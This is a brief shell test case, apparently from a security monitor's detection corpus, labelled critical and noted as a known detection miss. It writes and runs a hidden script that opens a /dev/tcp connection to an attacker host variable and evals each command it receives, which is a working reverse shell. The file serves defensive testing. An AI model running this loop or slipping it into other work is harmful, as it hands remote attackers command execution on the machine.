# SPDX-License-Identifier: MIT
# technique: commands read from a socket on fd 5 and run with their output sent back
# level: critical
# quick: no (reaches CRITICAL only in some runs, WARNING in others: a known miss, in
# docs/monitoring.md; the full corpus, bench/50-monitor-corpus.sh, still runs it)
cat >/tmp/.loop.sh <<'X'
exec 5<>/dev/tcp/$ATK/4445
while read -r line <&5; do eval "$line" >&5 2>&5; done
X
t0
ATK=$ATK bash /tmp/.loop.sh
